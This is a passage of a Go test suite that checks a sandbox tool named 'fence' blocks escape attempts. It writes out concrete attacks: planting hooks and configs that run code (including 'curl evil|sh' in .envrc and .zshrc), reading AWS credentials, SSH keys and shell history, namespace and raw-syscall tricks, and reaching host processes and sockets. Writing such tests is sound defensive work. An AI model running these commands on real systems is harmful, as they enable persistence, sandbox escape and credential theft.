	{name: "F-15/cargo-rustc-wrapper", config: writeDotAndHome,
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.cargo/env", "x\n") },
		script: `printf '[build]\nrustc-wrapper = "/tmp/evil"\n' > ~/.cargo/config.toml`, worked: exists("~/.cargo/config.toml")},
	{name: "F-15/gradle-javaagent", config: writeDotAndHome,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Write("~/.gradle/gradle.properties", "org.gradle.daemon=true\n")
		},
		script: `echo 'org.gradle.jvmargs=-javaagent:/tmp/evil.jar' >> ~/.gradle/gradle.properties`,
		worked: changed("~/.gradle/gradle.properties", "org.gradle.daemon=true\n")},
	{name: "F-15/nvim-init", config: writeDotAndHome,
		script: `mkdir -p ~/.config/nvim && echo 'os.execute("id")' > ~/.config/nvim/init.lua`, worked: exists("~/.config/nvim/init.lua")},
	{name: "F-15/xdg-config-home-git", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Write("xdg/git/config", "[user]\n")
			e.Vars = append(e.Vars, "XDG_CONFIG_HOME="+e.Path("xdg"))
		},
		script: `printf '[core]\n\tfsmonitor = evil\n' >> xdg/git/config`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return strings.Contains(e.Read("xdg/git/config"), "evil")
		}},
	{name: "F-15/zdotdir", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			os.MkdirAll(e.Path("zdot"), 0o755)
			e.Vars = append(e.Vars, "ZDOTDIR="+e.Path("zdot"))
		},
		script: `echo 'curl evil|sh' > zdot/.zshrc`, worked: exists("zdot/.zshrc")},
	{name: "F-17/lefthook", config: writeDot,
		script: `printf 'pre-commit:\n  commands:\n    x:\n      run: id\n' > lefthook.yml`, worked: exists("lefthook.yml")},
	{name: "F-17/hgrc", config: writeDot,
		script: `mkdir -p .hg && printf '[hooks]\nupdate = id\n' > .hg/hgrc`, worked: exists(".hg/hgrc")},
	{name: "F-17/nvim-lua", config: writeDot,
		script: `echo 'os.execute("id")' > .nvim.lua`, worked: exists(".nvim.lua")},
	{name: "F-18/project-below-writable-home-git-config", config: "[filesystem]\nallowWrite = [\"~\"]\n", setup: withRepo,
		script: `printf '[core]\n\tfsmonitor = evil\n' >> .git/config`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return strings.Contains(e.Read(".git/config"), "evil")
		}},
	{name: "F-18/project-below-writable-home-hook", config: "[filesystem]\nallowWrite = [\"~\"]\n", setup: withRepo,
		script: `echo id >> .git/hooks/pre-commit`, worked: changed(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")},
	{name: "F-18/project-below-writable-home-envrc", config: "[filesystem]\nallowWrite = [\"~\"]\n",
		script: `echo 'curl evil|sh' > .envrc`, worked: exists(".envrc")},
	{name: "F-18/project-below-writable-root", config: "[filesystem]\nallowWrite = [\"/\"]\n", setup: withRepo,
		script: `echo id >> .git/hooks/pre-commit; echo evil >> .fence.toml`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return e.Read(".git/hooks/pre-commit") != "#!/bin/sh\nexit 0\n" || strings.Contains(e.Read(".fence.toml"), "evil")
		}},
	{name: "F-18/parent-repo-from-subdir",
		config: "[filesystem]\nallowWrite = [\"sub\"]\n",
		setup:  func(t *testing.T, e *sandboxtest.Env) { withRepo(t, e); os.MkdirAll(e.Path("sub"), 0o755) },
		script: `echo 'id' >> .git/hooks/pre-commit`, worked: changed(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")},
	{name: "F-22/denyread-dir", config: "[filesystem]\nallowWrite = [\".\"]\ndenyRead = [\"~/.aws\"]\n",
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.aws/credentials", "SECRET-KEY\n") },
		script: `cat ~/.aws/credentials`, worked: printed("SECRET-KEY")},
	{name: "F-22/denyread-file", config: "[filesystem]\nallowWrite = [\".\"]\ndenyRead = [\".env.production\"]\n",
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write(".env.production", "SECRET-KEY\n") },
		script: `cat .env.production; cp .env.production /tmp/x 2>/dev/null; cat /tmp/x`, worked: printed("SECRET-KEY")},
	// Red team B25: the mask travels with a renamed parent, and the next
	// session reads the file under its new name.
	{name: "F-22/denyread-rename-parent", config: "[filesystem]\nallowWrite = [\".\"]\ndenyRead = [\"conf/secret.txt\"]\n",
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("conf/secret.txt", "SECRET-KEY\n") },
		script: `mv conf conf-moved`, worked: exists("conf-moved/secret.txt")},
	{name: "F-22/denyread-rename-grandparent", config: "[filesystem]\nallowWrite = [\".\"]\ndenyRead = [\"a/b/secret.txt\"]\n",
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("a/b/secret.txt", "SECRET-KEY\n") },
		script: `mv a a2`, worked: exists("a2/b/secret.txt")},
	{name: "F-22/default-ssh-key", config: writeDot,
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.ssh/id_ed25519", "PRIVATE-KEY\n") },
		script: `cat ~/.ssh/id_ed25519`, worked: printed("PRIVATE-KEY")},
	// Other copies of secrets (F-23): what was typed on a command line.
	{name: "F-23/bash-history", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Write("~/.bash_history", "export GITHUB_TOKEN=SECRET-HIST\n")
		},
		script: `cat ~/.bash_history`, worked: printed("SECRET-HIST")},
	{name: "F-23/zsh-history-grep", config: writeDotAndHome,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Write("~/.zsh_history", ": 1700000000:0;psql postgres://u:SECRET-HIST@db\n")
		},
		script: `grep -rh SECRET ~/.zsh_history`, worked: printed("SECRET-HIST")},
	{name: "F-24/unshare-remount", config: writeDot, setup: withRepo,
		script: `unshare -Urm sh -c 'mount --bind . .git/hooks && echo REMOUNTED'`, worked: printed("REMOUNTED")},
	{name: "F-24/open-tree", config: writeDot,
		// open_tree(OPEN_TREE_CLONE) needs CAP_SYS_ADMIN over the mount
		// namespace: try it in a nested one first, then directly.
		script: "unshare -Urm " + pyCall(428, "-100", `b"/"`, "1|0x8000") + "; " + pyCall(428, "-100", `b"/"`, "1|0x8000"), worked: retOK},
	{name: "F-24/fsopen", config: writeDot,
		// fsopen("tmpfs") needs CAP_SYS_ADMIN over the mount namespace,
		// which a nested user namespace gives outside: try there first,
		// then directly.
		script: "unshare -Urm " + pyCall(430, `b"tmpfs"`, "0") + "; " + pyCall(430, `b"tmpfs"`, "0"), worked: retOK},
	{name: "F-25/write-home-file", config: writeDot,
		script: `echo x > ~/planted`, worked: exists("~/planted")},
	{name: "F-25/write-parent", config: writeDot,
		script: `echo x > ../planted`, worked: exists("~/planted")},
	{name: "F-26/host-devices", config: writeDot,
		script: `for d in /dev/kmsg /dev/vda /dev/tty0 /dev/mem /dev/fuse; do test -e $d && echo FOUND $d; done`, worked: printed("FOUND")},
	{name: "F-27/shared-tmp", config: writeDot,
		setup:  func(t *testing.T, e *sandboxtest.Env) { withHostFile(t, e, os.TempDir(), "tmpname") },
		script: `test -e "$(cat tmpname)" && echo HOST-TMP-VISIBLE`, worked: printed("HOST-TMP-VISIBLE")},
	{name: "F-26/many-devices", config: writeDot,
		script: `[ "$(ls /dev | wc -l)" -gt 20 ] && echo MANY-DEVICES`, worked: printed("MANY-DEVICES")},
	// Something left in /tmp for the host to pick up later.
	{name: "F-27/plant-in-host-tmp", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			p := filepath.Join(os.TempDir(), "fence-planted-"+filepath.Base(e.Base))
			t.Cleanup(func() { os.Remove(p) })
			e.Write("tmpname", p)
		},
		script: `echo x > "$(cat tmpname)"`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return e.Exists(strings.TrimSpace(e.Read("tmpname")))
		}},

	// §K — privileges and kernel surface.
	{name: "K-01/no-new-privs", config: writeDot,
		script: `grep -q 'NoNewPrivs:.*0' /proc/self/status && echo CAN-GAIN-PRIVS`, worked: printed("CAN-GAIN-PRIVS")},
	{name: "K-01/bounding-set", config: writeDot,
		script: `grep -q 'CapBnd:.*[1-9a-f]' /proc/self/status && echo HAS-BOUNDING-CAPS`, worked: printed("HAS-BOUNDING-CAPS")},
	{name: "K-03/unshare-user", config: writeDot,
		script: `unshare -Ur true && echo NESTED-USERNS`, worked: printed("NESTED-USERNS")},
	{name: "K-03/unshare-user-net", config: writeDot,
		script: `unshare -Urn sh -c 'ip link set lo up && ip addr add 10.9.9.9/32 dev lo' && echo NESTED-NET-ADMIN`, worked: printed("NESTED-NET-ADMIN")},
	{name: "K-03/unshare-pid-mount", config: writeDot,
		script: `unshare -Urmpf --mount-proc sh -c 'echo NESTED-PIDNS'`, worked: printed("NESTED-PIDNS")},
	{name: "K-03/python-unshare-syscall", config: writeDot,
		script: pyCall(272, "0x10000000"), worked: retOK}, // unshare(CLONE_NEWUSER)
	{name: "K-05/keyring", config: writeDot,
		script: pyCall(250, "0", "-3", "0"), worked: retOK}, // keyctl(GET_KEYRING_ID, @s)
	{name: "K-05/add-key", config: writeDot,
		script: pyCall(248, `b"user"`, `b"k"`, `b"v"`, "1", "-3"), worked: retOK},
	{name: "K-06/userfaultfd", config: writeDot,
		script: pyCall(323, "1"), worked: retOK}, // UFFD_USER_MODE_ONLY
	{name: "K-06/io-uring", config: writeDot,
		script: `python3 -c 'import ctypes;l=ctypes.CDLL(None,use_errno=True);p=ctypes.create_string_buffer(120);r=l.syscall(425,4,p);print("RET",r,ctypes.get_errno())'`, worked: retOK},
	{name: "K-06/personality", config: writeDot,
		script: pyCall(135, "0x0400000"), worked: retOK}, // READ_IMPLIES_EXEC
	{name: "K-09/ssh-agent-env", config: writeDot,
		script: `env | grep -q SSH_AUTH_SOCK && echo LEAKED`, worked: printed("LEAKED"),
		setup: func(t *testing.T, e *sandboxtest.Env) { e.Vars = append(e.Vars, "SSH_AUTH_SOCK=/tmp/ssh-x/agent.1") }},
	{name: "K-09/session-bus-env", config: writeDot,
		script: `env | grep -q DBUS_SESSION_BUS_ADDRESS && echo LEAKED`, worked: printed("LEAKED"),
		setup: func(t *testing.T, e *sandboxtest.Env) {
			e.Vars = append(e.Vars, "DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1000/bus")
		}},

	// §X — processes, /proc, fds.
	{name: "X-01/ptrace-strace", config: writeDot,
		script: `strace -o /dev/null true && echo TRACED`, worked: printed("TRACED")},
	{name: "X-01/ptrace-traceme", config: writeDot,
		script: pyCall(101, "0", "0", "0", "0"), worked: retOK},
	{name: "X-02/read-launcher-environ", config: writeDot,
		// Outside: the parent (same user) is readable. Inside, the parent
		// is the sandbox init, which must not be.
		script: `cat /proc/$PPID/environ >/dev/null && echo READ-PARENT; cat /proc/1/environ > /dev/null 2>&1 && [ "$PPID" = 1 ] && echo READ-INIT`,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
			return strings.Contains(r.Stdout, "READ-PARENT") || strings.Contains(r.Stdout, "READ-INIT")
		}},
	// Its memory: outside the parent is the test (same user, dumpable);
	// inside it is the sandbox init, which is not dumpable.
	{name: "X-02/parent-mem", config: writeDot,
		script: `python3 -c "import sys;open('/proc/'+sys.argv[1]+'/mem','rb');print('OPENED-MEM')" $PPID`,
		worked: printed("OPENED-MEM")},
	{name: "X-03/pidfd-getfd", config: writeDot,
		script: `python3 -c '
import ctypes,os
l=ctypes.CDLL(None,use_errno=True)
pfd=l.syscall(434,os.getppid(),0)
r=l.syscall(438,pfd,0,0)
print("RET",r,ctypes.get_errno())'`, worked: retOK},
	{name: "X-03/process-vm-readv", config: writeDot,
		script: `python3 -c '
import ctypes,os
l=ctypes.CDLL(None,use_errno=True)
b=ctypes.create_string_buffer(8)
class iov(ctypes.Structure): _fields_=[("b",ctypes.c_void_p),("n",ctypes.c_size_t)]
loc=iov(ctypes.addressof(b),8); rem=iov(ctypes.addressof(b),8)
r=l.syscall(310,os.getpid(),ctypes.byref(loc),1,ctypes.byref(rem),1,0)
print("RET",r,ctypes.get_errno())'`, worked: retOK},
	{name: "X-04/i386-keyctl", config: writeDot, script: i386Keyctl,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return retOK(e, r) }},
	{name: "X-04/i386-unshare", config: writeDot, script: i386Unshare,
		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return retOK(e, r) }},
	{name: "X-05/kill-outside", config: writeDot, setup: withOutsideSleeper,
		script: `kill -9 $(cat sleeper.pid) && echo KILLED`, worked: printed("KILLED")},
	{name: "X-05/stop-outside", config: writeDot, setup: withOutsideSleeper,
		script: `kill -STOP $(cat sleeper.pid) && echo STOPPED`, worked: printed("STOPPED")},
	{name: "X-05/ps-sees-outside", config: writeDot, setup: withOutsideSleeper,
		script: `ps -e -o pid= | tr -d ' ' | grep -qx "$(cat sleeper.pid)" && echo SEEN`, worked: printed("SEEN")},
	// The relay is the sandbox's pid 1, which the kernel does not let
	// its own namespace stop or kill: its port stays taken, and no
	// listener of the command's can stand in for it.
	{name: "X-10/take-relay-port", config: writeDot + "[network]\nallowLocalBinding = true\n",
		script: `kill -STOP 1; kill -KILL 1; sleep 0.1; python3 -c 'import socket;s=socket.socket();s.bind(("127.0.0.1",3128));print("BOUND")'`,
		worked: printed("BOUND")},
	{name: "X-06/proc-of-outside", config: writeDot, setup: withOutsideSleeper,
		script: `test -e /proc/$(cat sleeper.pid)/environ && echo VISIBLE`, worked: printed("VISIBLE")},
	{name: "X-06/many-processes", config: writeDot,
		script: `n=$(ls -d /proc/[0-9]* | wc -l); [ $n -gt 10 ] && echo SEES-HOST-PROCS`, worked: printed("SEES-HOST-PROCS")},
	{name: "X-11/core-dumps", config: writeDot,
		script: `ulimit -c unlimited && echo CORE-ENABLED`, worked: printed("CORE-ENABLED")},
	// A real crash: with core_pattern "core" (checked) the kernel writes
	// the dump into the working directory, the writable project.
	{name: "X-11/crash-dumps-core", config: writeDot, setup: withPlainCorePattern,
		script: `ulimit -c unlimited 2>/dev/null; sh -c 'kill -SEGV $$'; ls | grep -q '^core' && echo CORE-WRITTEN`, worked: printed("CORE-WRITTEN")},

	// §C — control plane reachable through the filesystem.
	{name: "C-01/runtime-dir-socket", config: writeDot, setup: withRuntimeSocket,
		script: `python3 -c 'import socket,os;s=socket.socket(socket.AF_UNIX);s.connect(os.environ["XDG_RUNTIME_DIR"]+"/fence/ctl.sock");print("CONNECTED")'`,
		worked: printed("CONNECTED")},
	{name: "C-01/run-user-socket-by-path", config: writeDot, setup: withRuntimeSocket,
		script: `ls "$(cat rtdir)/fence/" | grep -q ctl.sock && echo LISTED`, worked: printed("LISTED")},
	// Control endpoints with no file to protect (C-02): an abstract unix
	// socket (per network namespace) and a TCP port on the host's
	// loopback, both listening on the host.
	{name: "C-02/abstract-socket", config: writeDot, setup: withHostListener("unix", "@fence-test-ctl"),
		script: `python3 -c 'import socket;s=socket.socket(socket.AF_UNIX);s.connect("\0"+open("listener").read()[1:]);print("CONNECTED")'`,
		worked: printed("CONNECTED")},
	{name: "C-02/loopback-tcp-port", config: writeDot, setup: withHostListener("tcp", "127.0.0.1:0"),
		script: `python3 -c 'import socket;socket.create_connection(("127.0.0.1",int(open("listener").read().rsplit(":",1)[1])),2);print("CONNECTED")'`,
		worked: printed("CONNECTED")},
	// §U — the host's IPC and same-user services.
	{name: "U-05/gpg-agent-socket", config: writeDot, setup: withRuntimeListener("gnupg/S.gpg-agent"),
		script: `python3 -c 'import socket;s=socket.socket(socket.AF_UNIX);s.connect(open("listener").read());print("CONNECTED")'`,
		worked: printed("CONNECTED")},
	{name: "U-08/database-socket-in-tmp", config: writeDot, setup: withTmpListener(".s.PGSQL.5432"),
		script: `python3 -c 'import socket;s=socket.socket(socket.AF_UNIX);s.connect(open("listener").read());print("CONNECTED")'`,
		worked: printed("CONNECTED")},
	{name: "U-09/sysv-shm", config: writeDot, setup: withHostShm,
		script: pyCall(unix.SYS_SHMAT, `int(open("shmid").read())`, "0", "0"), worked: retOK},
	{name: "U-09/posix-shm", config: writeDot, setup: withHostShm,
		script: `test -e "$(cat shmpath)" && echo VISIBLE`, worked: printed("VISIBLE")},
	// A .fence.toml that is a link (to a file shared by several projects,
	// say): neither the link nor its target may change.
	{name: "C-10/linked-config-swapped", config: writeDot, setup: withLinkedConfig,
		script: `echo '[network]' > evil.toml; ln -sfn evil.toml .fence.toml`, worked: configLinkChanged},
	{name: "C-10/linked-config-replaced", config: writeDot, setup: withLinkedConfig,
		script: `rm -f .fence.toml; printf '[filesystem]\nallowWrite = ["/"]\n' > .fence.toml`, worked: configLinkChanged},
	{name: "C-10/linked-config-target", config: writeDot, setup: withLinkedConfig,
		script: `echo 'allowWrite = ["/"]' >> .fence.toml`, worked: changed("base.toml", writeDot)},
	// Environment variables are no trust signal (C-06): claiming to be
	// inside already does not make fence skip the sandbox, and dropping
	// the session's variables inside does not make fence's shell hook
	// think it is outside (it would try to enter a nested session).
	{name: "C-06/env-claims-inside", config: writeDot,
		setup: func(t *testing.T, e *sandboxtest.Env) {
			withBashrc(t, e)
			e.Vars = append(e.Vars, "FENCE_SESSION=s-1234", "FENCE_SANDBOX=1")
		},
		script: `echo evil >> ~/.bashrc`, worked: changed("~/.bashrc", "# rc\n")},
	{name: "C-06/env-cleared-inside", config: writeDot,
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("fencepath", e.Fence) },
		script: `env -u FENCE_SESSION -u FENCE_SANDBOX "$(cat fencepath)" hook bash | grep -q 'does nothing here' || echo HOOK-ACTIVE`,
		worked: printed("HOOK-ACTIVE")},
	{name: "C-05/nested-fence", config: writeDot,
		script: `"$(cat fencepath)" -- true && echo NESTED-FENCE-RAN; exit 0`, worked: printed("NESTED-FENCE-RAN"),
		setup: func(t *testing.T, e *sandboxtest.Env) { e.Write("fencepath", e.Fence) }},
	// A looser policy of the sandbox's own choosing (-s counts as typed
	// by the user outside).
	{name: "C-05/nested-fence-loose-settings", config: writeDot,
		script: `printf '[filesystem]\nallowWrite = ["~"]\n' > loose.toml; "$(cat fencepath)" -s loose.toml -- sh -c 'echo x > ~/planted'; exit 0`,
		worked: exists("~/planted"),
		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("fencepath", e.Fence) }},

	// §T — terminal (fs/process parts; TIOCSTI with a real tty is in TestTIOCSTI).
	{name: "T-05/host-ptys", config: writeDot, setup: withHostPTY,
		script: `ls /dev/pts | grep -qv ptmx && echo HOST-PTS`, worked: printed("HOST-PTS")},
	{name: "T-05/write-host-pty", config: writeDot, setup: withHostPTY,
		script: `echo x > "$(cat ptyname)" && echo WROTE`, worked: printed("WROTE")},
	// Without a virtual console TIOCLINUX cannot paste anything here, but
	// whether it reaches a driver at all can be seen: outside, stdin
	// (/dev/null) answers ENOTTY; inside, seccomp answers EPERM first. With
	// bits above the low 32 set too, which the kernel drops from an ioctl's
	// number and a filter comparing all 64 would miss.
	{name: "T-04/tioclinux-ioctl", config: writeDot,
		script: pyCall(unix.SYS_IOCTL, "0", strconv.Itoa(unix.TIOCLINUX), "ctypes.create_string_buffer(64)"), worked: reachedDriver},
	{name: "T-04/tioclinux-ioctl-high-bits", config: writeDot,
		script: pyCall(unix.SYS_IOCTL, "0", fmt.Sprintf("ctypes.c_ulong(%d)", 1<<32|unix.TIOCLINUX), "ctypes.create_string_buffer(64)"), worked: reachedDriver},
}

// reachedDriver: pyCall's syscall succeeded, or failed with another error
// than EPERM (the filter's answer).
func reachedDriver(e *sandboxtest.Env, r sandboxtest.Result) bool {
	res := pyResults(r)
	return len(res) > 0 && (res[0].ok || res[0].errno != strconv.Itoa(int(unix.EPERM)))
}

// i386Keyctl calls keyctl(KEYCTL_GET_KEYRING_ID, @s) through the i386
// entry point (int 0x80, nr 288) from a MAP_32BIT page (ATTACKS.md X-04).
const i386Keyctl = `python3 -c '
import ctypes,mmap
l=ctypes.CDLL(None,use_errno=True)
l.mmap.restype=ctypes.c_void_p
l.mmap.argtypes=[ctypes.c_void_p,ctypes.c_size_t,ctypes.c_int,ctypes.c_int,ctypes.c_int,ctypes.c_long]
p=l.mmap(None,4096,7,0x22|0x40,-1,0)
code=bytes([0x53,0xb8,0x20,0x01,0,0,0x31,0xdb,0xb9,0xfd,0xff,0xff,0xff,0x31,0xd2,0xcd,0x80,0x5b,0xc3])
ctypes.memmove(p,code,len(code))
f=ctypes.CFUNCTYPE(ctypes.c_int)(p)
print("RET",f(),0)'`

// withHostListener listens on address outside the sandbox for the test's
// length and writes the address it got to the project's "listener". An
// abstract unix address gets a unique suffix (the control run's listener
// is still there when the sandboxed run's is made).
func withHostListener(network, address string) func(t *testing.T, e *sandboxtest.Env) {
	return func(t *testing.T, e *sandboxtest.Env) {
		if strings.HasPrefix(address, "@") {
			address += "-" + filepath.Base(e.Base)
		}
		ln, err := net.Listen(network, address)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { ln.Close() })
		e.Write("listener", ln.Addr().String())
	}
}

// withRuntimeListener listens on a unix socket at rel below a runtime
// directory of the test's ($XDG_RUNTIME_DIR), where user services keep
// theirs, and writes its path to the project's "listener".
func withRuntimeListener(rel string) func(t *testing.T, e *sandboxtest.Env) {
	return func(t *testing.T, e *sandboxtest.Env) {
		rt := filepath.Join(e.Base, "run")
		e.UseRuntimeDir(rt)
		p := filepath.Join(rt, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		withHostListener("unix", p)(t, e)
	}
}

// withTmpListener listens on a unix socket named name in a directory of
// its own below the host's /tmp (as databases do: /tmp/.s.PGSQL.5432).
func withTmpListener(name string) func(t *testing.T, e *sandboxtest.Env) {
	return func(t *testing.T, e *sandboxtest.Env) {
		dir, err := os.MkdirTemp("", "fence-test-sock-")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(dir) })
		withHostListener("unix", filepath.Join(dir, name))(t, e)
	}
}

// withHostShm makes a SysV shared memory segment and a POSIX one
// (/dev/shm) outside the sandbox, and writes their id and path to the
// project's "shmid" and "shmpath".
func withHostShm(t *testing.T, e *sandboxtest.Env) {
	id, err := unix.SysvShmGet(unix.IPC_PRIVATE, 4096, unix.IPC_CREAT|0o600)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { unix.SysvShmCtl(id, unix.IPC_RMID, nil) })
	e.Write("shmid", strconv.Itoa(id))
	withHostFile(t, e, "/dev/shm", "shmpath")
}

// withHostFile makes a file in the host's dir for the test's length and
// writes its path to the project's file name.
func withHostFile(t *testing.T, e *sandboxtest.Env, dir, name string) {
	f, err := os.CreateTemp(dir, "fence-test-")
	if err != nil {
		t.Fatal(err)
	}
	f.Close()
	t.Cleanup(func() { os.Remove(f.Name()) })
	e.Write(name, f.Name())
}

// withDeepRepo makes a repository with a hook six directories down.
func withDeepRepo(t *testing.T, e *sandboxtest.Env) {
	gitInitIn(t, e, e.Path("a/b/c/d/e/r"))
	e.Write("a/b/c/d/e/r/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
}

// withFenceInHome installs the fence binary the test runs as ~/tools/fence.
func withFenceInHome(t *testing.T, e *sandboxtest.Env) {
	b, err := os.ReadFile(e.Fence)
	if err != nil {
		t.Fatal(err)
	}
	p := e.Path("~/tools/fence")
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, b, 0o755); err != nil {
		t.Fatal(err)
	}
	e.Fence = p
}

// fenceInHomeChanged: ~/tools/fence is no longer the binary that ran.
func fenceInHomeChanged(e *sandboxtest.Env, r sandboxtest.Result) bool {
	b, err := os.ReadFile(e.Path("~/tools/fence"))
	return err != nil || strings.Contains(string(b), "echo evil")
}

// withPlainCorePattern needs the kernel to write core dumps as files named
// core in the crashing process's directory.
func withPlainCorePattern(t *testing.T, e *sandboxtest.Env) {
	b, err := os.ReadFile("/proc/sys/kernel/core_pattern")
	sandboxtest.Require(t, err == nil && strings.HasPrefix(string(b), "core"),
		"X-11/crash-dumps-core needs kernel.core_pattern = core (it is "+strings.TrimSpace(string(b))+")")
}

// i386Unshare calls unshare(CLONE_NEWUSER) through the i386 entry point
// (int 0x80, nr 310), as i386Keyctl does keyctl.
const i386Unshare = `python3 -c '
import ctypes,mmap
l=ctypes.CDLL(None,use_errno=True)
l.mmap.restype=ctypes.c_void_p
l.mmap.argtypes=[ctypes.c_void_p,ctypes.c_size_t,ctypes.c_int,ctypes.c_int,ctypes.c_int,ctypes.c_long]
p=l.mmap(None,4096,7,0x22|0x40,-1,0)
code=bytes([0x53,0xb8,0x36,0x01,0,0,0xbb,0,0,0,0x10,0xcd,0x80,0x5b,0xc3])
ctypes.memmove(p,code,len(code))
f=ctypes.CFUNCTYPE(ctypes.c_int)(p)
print("RET",f(),0)'`

func withOutsideSleeper(t *testing.T, e *sandboxtest.Env) {
	cmd := exec.Command("sleep", "60")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	e.Write("sleeper.pid", fmt.Sprint(cmd.Process.Pid))
}

func withRuntimeSocket(t *testing.T, e *sandboxtest.Env) {
	// The real daemon of a private runtime directory: the sandboxed run
	// needs it for its own network session, and the attack targets its
	// control socket (a stand-in listener at that path would make fence
	// itself fail, and the attack "fail" with it).
	rt := filepath.Join(e.Base, "run")
	e.UseRuntimeDir(rt) // stops it at the end
	cmd := exec.Command(e.Fence, "daemon", "start")
	cmd.Env = e.Vars
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("fence daemon start: %v\n%s", err, out)
	}
	e.Write("rtdir", rt)
}

func withHostPTY(t *testing.T, e *sandboxtest.Env) {
	f, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
	if err != nil {
		sandboxtest.Require(t, false, "cannot open /dev/ptmx: "+err.Error())
	}
	t.Cleanup(func() { f.Close() })
	// Unlocked, so that the slave can be opened (it shows up in /dev/pts
	// either way).
	if err := unix.IoctlSetPointerInt(int(f.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Fatal(err)
	}
	n, err := unix.IoctlGetInt(int(f.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	e.Write("ptyname", "/dev/pts/"+strconv.Itoa(n))
}

// TestAttacks runs every attack with a sandbox init fence clones itself
// and with one the daemon booted ahead (warm).
func TestAttacks(t *testing.T) {
	for _, mode := range []string{"cold", "warm"} {
		t.Run(mode, func(t *testing.T) { testAttacks(t, mode) })
	}
}

func testAttacks(t *testing.T, mode string) {
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			if a.noControl == "" {
				c := sandboxtest.New(t, a.config)
				if a.setup != nil {
					a.setup(t, c)
				}
				r := c.Direct(a.script)
				if !a.worked(c, r) {
					t.Fatalf("control: the attack does not work without the sandbox either, so this test proves nothing:\n%s", r.Out())
				}
			}
			e := sandboxtest.New(t, a.config)
			e.Init = mode
			if a.setup != nil {
				a.setup(t, e)
			}
			r := e.Sh(a.script)
			if a.worked(e, r) {
				t.Errorf("the attack worked inside the sandbox (status %d):\n%s", r.Code, r.Out())
			}
			// fence failing (125) for any reason would make every attack
			// "fail"; only the hardlink cases (F-03) expect fence to refuse.
			if r.Code == 125 && !strings.HasPrefix(a.name, "F-03") {
				t.Errorf("fence failed instead of running the attack:\n%s", r.Stderr)
			}
		})
	}
}

// TestQuarantineFailureIsLoud: when a protected path created inside cannot
// be quarantined (here: no usable state directory), fence must not end
// quietly with the command's status (red team B15).
func TestQuarantineFailureIsLoud(t *testing.T) {
	e := sandboxtest.New(t, writeDot)
	state := e.Path("~/ro-state")
	if err := os.MkdirAll(state, 0o500); err != nil {
		t.Fatal(err)
	}
	r := e.RunEnv([]string{"XDG_STATE_HOME=" + state}, "--", "sh", "-c", `echo 'curl evil|sh' > .envrc`)
	if !e.Exists(".envrc") {
		t.Fatalf("setup: the quarantine worked after all, the test proves nothing (status %d):\n%s", r.Code, r.Out())
	}
	if r.Code == 0 || !strings.Contains(r.Stderr, "could not be quarantined") {
		t.Errorf("a protected path stayed behind but fence ended with status %d:\n%s", r.Code, r.Out())
	}
}
